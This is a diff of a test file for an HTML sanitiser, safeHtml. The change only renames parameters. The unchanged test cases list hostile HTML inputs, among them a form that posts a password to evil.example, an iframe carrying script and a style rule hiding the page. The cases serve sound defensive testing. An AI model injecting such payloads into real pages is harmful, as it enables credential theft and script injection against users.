@@ -22,7 +22,7 @@ describe('HTML that is shown', () => {
     ['<form action="https://evil.example"><input name="password"></form>', ''],
     ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', ''],
     ['<style>body{display:none}</style>', ''],
-  ])('takes the danger out of %p', (given, kept) => {
-    expect(safeHtml(`<p>a</p>${given}`)).toBe(`<p>a</p>${kept}`);
+  ])('takes the danger out of %p', (dirty, safe) => {
+    expect(safeHtml(`<p>a</p>${dirty}`)).toBe(`<p>a</p>${safe}`);
   });
 });
